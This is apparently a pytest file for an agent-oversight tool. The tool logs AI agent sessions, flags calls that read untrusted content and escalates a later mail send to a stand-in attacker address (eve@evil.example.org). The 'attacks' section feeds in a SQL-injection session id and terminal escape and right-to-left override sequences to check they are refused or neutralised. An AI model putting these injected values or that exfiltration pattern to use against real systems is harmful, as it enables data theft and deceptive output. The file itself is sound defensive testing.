"""Sessions of a principal, from its house's log: listed, whole, and drawn."""

from __future__ import annotations

import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rich.console import Console

from charter.bootstrap import sessions
from charter.cli import output, session_commands
from charter.core.errors import AbsentError, MalformedError
from charter.reports.session_drawing import DRAWINGS
from flow_stage import STRANGER, Talk, files
from houses import a_house
from lending_stage import a_lending


def test_a_session_is_told_with_what_it_read_and_where_values_came_from(tmp_path: Path) -> None:
    with a_house(tmp_path, files=files()) as stage:
        talk = Talk(stage, run="ticket-7")
        talk.call("find", {"id": "m1"})
        talk.call("read", STRANGER)
        talk.call("send", to="eve@evil.example.org", body="hi")
        Talk(stage, run="ticket-8").call("find", {})

        listed = sessions.listing(stage.house, "assistant")
        assert [(each["run"], each["steps"], each["exposed"]) for each in listed["sessions"]] == [
            ("ticket-8", 1, False),
            ("ticket-7", 3, True),
        ]
        found = sessions.show(stage.house, talk.key.id)
        assert [(each["step"], each["verdict"]) for each in found["calls"]] == [
            (1, "allow"),
            (2, "allow"),
            (3, "escalate"),
        ]
        read, send = found["calls"][1], found["calls"][2]
        assert read["added"] == {"exposed": True, "data": []}
        values = [each for each in found["graph"]["edges"] if each["kind"] == "values"]
        assert values == [{"from": read["verdict_id"], "to": send["verdict_id"], "kind": "values", "label": "to"}]
        assert "eve@evil.example.org" not in json.dumps(found)

        _, graph = sessions.drawn(stage.house, talk.key.id, name="assistant")
        drawn = {form: draw(graph) for form, draw in DRAWINGS.items()}
        ET.fromstring(drawn["svg"])  # noqa: S314 - our own
        assert drawn["dot"].startswith("digraph")
        assert "mail/send" in drawn["mermaid"]


def test_what_is_done_under_delegation_names_the_session_of_the_lender(tmp_path: Path) -> None:
    with a_lending(tmp_path) as lending:
        flow, agent = lending.chain("triage-flow", "refund-agent")
        lending.call(flow)
        lending.call(agent)
        (first,) = sessions.listing(lending.stage.house, "triage-flow")["sessions"]
        (second,) = sessions.listing(lending.stage.house, "refund-agent")["sessions"]

        assert (second["initiator"], second["delegation"]) == ("maria@example.com", lending.delegation_of(agent))
        edges = sessions.show(lending.stage.house, second["session"])["graph"]["edges"]
        assert [(each["from"], each["kind"]) for each in edges] == [(first["session"], "lent")]


# --- attacks ----------------------------------------------------------------------------------------------------------


def test_a_session_is_not_shown_as_another_principals(tmp_path: Path) -> None:
    with a_lending(tmp_path) as lending:
        lending.call(lending.chain("triage-flow")[0])
        (own,) = sessions.listing(lending.stage.house, "triage-flow")["sessions"]

        with pytest.raises(AbsentError):
            sessions.show(lending.stage.house, own["session"], name="refund-agent")


def test_a_run_named_like_anothers_session_brings_nothing_into_it(tmp_path: Path) -> None:
    with a_house(tmp_path, files=files()) as stage:
        victim = Talk(stage, run="mine")
        victim.call("find", {})
        Talk(stage, run=victim.key.id).call("read", STRANGER)

        found = sessions.show(stage.house, victim.key.id)
        assert (found["steps"], found["exposed"]) == (1, False)


@pytest.mark.parametrize("which", ["", "ses_", "ses_" + "z" * 24, "ses_" + "0" * 25, "vrd_1", "%", "ses_' OR '1'='1"])
def test_what_is_no_sessions_id_is_refused(tmp_path: Path, which: str) -> None:
    with a_house(tmp_path) as stage, pytest.raises(MalformedError):
        sessions.show(stage.house, which)


def test_a_session_that_nobody_had_is_absent(tmp_path: Path) -> None:
    with a_house(tmp_path) as stage, pytest.raises(AbsentError):
        sessions.show(stage.house, "ses_" + "0" * 24)


def test_a_tree_on_a_terminal_is_steered_by_no_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with a_house(tmp_path, files=files()) as stage:
        talk = Talk(stage)
        talk.call("read", STRANGER)
        talk.call("send", to="eve@evil.example.org", body="hi")
        told = sessions.show(stage.house, talk.key.id)
    stream = io.StringIO()
    console = Console(file=stream, width=160, soft_wrap=True, highlight=False)
    monkeypatch.setattr(output, "out", console)
    monkeypatch.setattr(session_commands, "out", console)
    session_commands._draw_tree(told)
    assert "to ← step 1" in stream.getvalue()
    assert "brought in: strangers' content" in stream.getvalue()

    hostile = "\x1b[2J\u202e[red]x[/red]\nstep 9"
    told["calls"][1] |= {"system": hostile, "object": hostile, "outcome": hostile}
    told["graph"]["edges"] = [each | {"label": hostile} for each in told["graph"]["edges"]]
    stream.truncate(0)
    session_commands._draw_tree(told | {"run": hostile, "principal": hostile})
    page = stream.getvalue()
    assert not set(page) & {"\x1b", "\u202e"}
    assert "[red]x[/red]" in page  # text, and no markup
    assert not [line for line in page.splitlines() if line.startswith("step 9")]
